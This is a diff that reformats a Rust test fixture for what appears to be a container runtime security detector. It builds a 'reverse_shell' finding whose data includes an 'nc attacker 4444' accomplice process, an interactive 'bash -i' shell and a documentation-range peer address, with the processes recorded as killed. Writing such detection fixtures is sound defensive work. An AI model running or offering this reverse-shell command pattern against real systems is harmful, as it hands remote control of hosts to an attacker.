@@ -1,9 +1,7 @@
 //! Findings for the tests of this stage.
 
 use super::{Alert, Clock, Notice, Row, notice::NoticeRow};
-use crate::finding::{
-    ContainerView, EnforcedBy, Evidence, Finding, FindingKind, Outcome, ProcessView, Severity,
-};
+use crate::finding::{ContainerView, EnforcedBy, Evidence, Finding, FindingKind, Outcome, ProcessView, Severity};
 use jiff::{SignedDuration, Timestamp};
 
 /// 2026-03-01 12:03:04.2 UTC, 1000.077 s after boot.
@@ -46,12 +44,7 @@ pub fn reverse_shell() -> Finding {
         process: process(901, "bash", &["bash", "-i"], true),
         ancestors: vec![
             process(900, "sh", &["sh", "-c", script], true),
-            process(
-                700,
-                "containerd-shim",
-                &["containerd-shim", "-id", "x"],
-                false,
-            ),
+            process(700, "containerd-shim", &["containerd-shim", "-id", "x"], false),
         ],
         accomplices: vec![process(899, "nc", &["nc", "attacker", "4444"], true)],
         evidence: vec![Evidence {
@@ -62,10 +55,7 @@ pub fn reverse_shell() -> Finding {
         }],
         peer: Some(([203, 0, 113, 66], 4444).into()),
         file: None,
-        outcome: Outcome::Killed {
-            by: EnforcedBy::Signal,
-            processes: vec![901, 902],
-        },
+        outcome: Outcome::Killed { by: EnforcedBy::Signal, processes: vec![901, 902] },
         latency_us: 412,
         amendment: false,
     }
@@ -80,9 +70,6 @@ pub fn reverse_shell_row() -> Row {
 }
 
 pub fn notice_row() -> Row {
-    let notice = Notice::started(
-        "0.1.0",
-        serde_json::json!([{ "fact": "exec", "door": "tp_btf" }]),
-    );
+    let notice = Notice::started("0.1.0", serde_json::json!([{ "fact": "exec", "door": "tp_btf" }]));
     Row::Notice(Box::new(NoticeRow::new(&notice, "node-1", &clock())))
 }
